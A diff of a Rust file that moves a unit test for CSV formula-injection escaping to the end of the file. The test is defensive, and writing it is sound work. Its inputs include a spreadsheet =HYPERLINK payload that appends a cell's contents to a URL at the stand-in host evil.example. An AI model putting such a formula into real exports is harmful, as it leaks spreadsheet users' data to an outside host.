@@ -230,33 +230,6 @@ pub fn write_csv_text(out: &mut String, text: &str) {
     }
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn cell(text: &str) -> String {
-        let mut out = String::new();
-        write_csv_text(&mut out, text);
-        out
-    }
-
-    #[test]
-    fn formula_cells_are_neutralised() {
-        assert_eq!(
-            cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
-            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
-        );
-        for text in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"] {
-            let out = cell(text);
-            assert!(out.starts_with("\"'"), "{text:?} → {out:?}");
-        }
-        assert_eq!(cell("plain text"), "plain text");
-        assert_eq!(cell("a, b"), "\"a, b\"");
-        assert_eq!(cell("x=1"), "x=1");
-        assert_eq!(cell(""), "");
-    }
-}
-
 fn write_json_row(
     out: &mut String,
     row: &rusqlite::Row<'_>,
@@ -294,4 +267,31 @@ fn write_json_row(
     }
     out.push('}');
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cell(text: &str) -> String {
+        let mut out = String::new();
+        write_csv_text(&mut out, text);
+        out
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised() {
+        assert_eq!(
+            cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
+        );
+        for text in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"] {
+            let out = cell(text);
+            assert!(out.starts_with("\"'"), "{text:?} → {out:?}");
+        }
+        assert_eq!(cell("plain text"), "plain text");
+        assert_eq!(cell("a, b"), "\"a, b\"");
+        assert_eq!(cell("x=1"), "x=1");
+        assert_eq!(cell(""), "");
+    }
 }
